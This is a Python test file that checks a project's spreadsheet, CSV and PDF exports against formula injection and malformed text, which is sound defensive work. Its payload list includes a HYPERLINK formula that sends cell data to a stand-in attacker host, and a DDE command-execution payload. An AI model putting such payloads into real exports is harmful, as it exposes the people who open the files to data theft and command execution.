"""Exports cannot carry a live formula nor fail on stored text (issue #11).

Every workbook and CSV export writes cells through ``core.reports``; these tests
drive it with the attacker's payloads and with random text, then read the file
back the way a spreadsheet would.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from circularcities.core.reports import (
    FORMULA_TRIGGERS,
    Report,
    Section,
    Table,
    append_row,
    clean_text,
    csv_dict,
    csv_row,
    to_pdf,
    to_xlsx,
)

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "#N/A", "＝1+1", "name\x02with control", "lone \ud800 surrogate",
            "\ufffe\uffff", "x" * 40000]

# Any text at all, including control characters, surrogates and formula starts.
any_text = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=60)
cell_value = st.one_of(any_text, st.sampled_from(PAYLOADS), st.integers(-10**12, 10**12),
                       st.floats(allow_nan=False, allow_infinity=False), st.none())


def _report(texts, numbers=(1, -2.5)) -> Report:
    texts = list(texts) or [""]
    return Report(title=texts[0], subtitle=texts[-1], sections=[Section(
        heading=texts[0], paragraphs=texts, facts=[(t, t) for t in texts],
        tables=[Table(["text", "number"], [[t, n] for t in texts for n in numbers], title=texts[-1])])])


def _cells(blob: bytes):
    wb = load_workbook(io.BytesIO(blob))
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def test_formulas_are_written_as_text_and_kept_verbatim():
    blob = to_xlsx(_report(PAYLOADS[:9]))
    cells = _cells(blob)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    link = by_value[PAYLOADS[0]]  # the user's text, unchanged, as text with Excel's quote prefix
    assert link.data_type == "s" and link.quotePrefix
    assert by_value["=cmd|' /C calc'!A0"].quotePrefix and by_value["#N/A"].data_type == "s"
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert -2.5 in numbers and 1 in numbers  # real numbers stay numbers


def test_control_characters_and_surrogates_cannot_break_an_export():
    blob = to_xlsx(_report(PAYLOADS))
    values = [c.value for c in _cells(blob) if isinstance(c.value, str)]
    assert "namewith control" in values and "lone  surrogate" in values
    assert max(len(v) for v in values) == 32767  # Excel's cell limit
    assert to_pdf(_report(PAYLOADS[:12])).startswith(b"%PDF")


def test_sheet_names_from_stored_text_are_valid():
    report = Report("t", sections=[Section("s", tables=[Table(["a"], [[1]], title=t) for t in
                                                        ["'Summary'", "SUMMARY", "a/b:c*?[]", "\x02", ""]])])
    wb = load_workbook(io.BytesIO(to_xlsx(report)))
    names = [n.casefold() for n in wb.sheetnames]
    assert len(names) == len(set(names)) == 6
    assert not [n for n in wb.sheetnames if n.startswith("'") or n.endswith("'")]


def test_csv_cells_are_prefixed_with_a_quote_and_numbers_stay_numbers():
    assert csv_row(["=1+1", "-3", -3, 2.5, None, "a\x00b", "ok"]) == ["'=1+1", "'-3", -3, 2.5, None, "ab", "ok"]
    assert csv_dict({"name": "@x", "n": 4}) == {"name": "'@x", "n": 4}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(cell_value, min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_stored_text_gives_a_workbook_without_formulas(rows):
    wb = Workbook()
    for row in rows:
        append_row(wb.active, row)
    buf = io.BytesIO()
    wb.save(buf)  # never raises
    ws = load_workbook(buf).active
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if isinstance(value, str):  # the text itself, minus what XML cannot hold
                # (an XML parser reads a stored CR as LF: line ends are normalised)
                expected = clean_text(value)[:32767].replace("\r\n", "\n").replace("\r", "\n")
                assert ws.cell(r, c).value == (expected or None)


@settings(max_examples=60, deadline=None)
@given(st.lists(any_text, min_size=1, max_size=4))
def test_any_stored_text_gives_a_report_without_formulas(texts):
    assert not [c for c in _cells(to_xlsx(_report(texts))) if c.data_type == "f"]


@settings(max_examples=150, deadline=None)
@given(st.lists(cell_value, min_size=1, max_size=6))
def test_any_stored_text_gives_csv_cells_without_formula_starts(row):
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(row))
    buf.getvalue().encode("utf-8")  # never raises (no lone surrogates left)
    [read] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    for original, cell in zip(row, read, strict=True):
        if isinstance(original, str):
            assert not cell.startswith(FORMULA_TRIGGERS)
        elif original is not None:
            assert float(cell) == original  # numbers are written as numbers


@pytest.mark.parametrize("text", ["=1+1", "-5", "@x", "\t1"])
def test_csv_quote_prefix_is_the_only_change(text):
    assert csv_row([text]) == ["'" + text]


def test_scenario_workbook_keeps_formula_like_names_as_text_and_reads_them_back(tmp_path):
    from circularcities.core import routing
    from tests.logistics.conftest import two_towns

    base = two_towns()
    names = ['=HYPERLINK("http://evil.example/","x")', "-5 Street", "@home", "+31 shop"]
    points = tuple(p.__class__(**{**p.__dict__, "name": names[i % len(names)]})
                   for i, p in enumerate(base.points))
    scenario = two_towns(points=points, name="=cmd|' /C calc'!A0")
    path = tmp_path / "s.xlsx"
    routing.write_scenario(path, scenario)
    assert not [c for c in _cells(path.read_bytes()) if c.data_type == "f"]
    back = routing.read_scenario(path)
    assert [p.name for p in back.points] == [p.name for p in points]  # unchanged: no quote added
    assert back.name == scenario.name
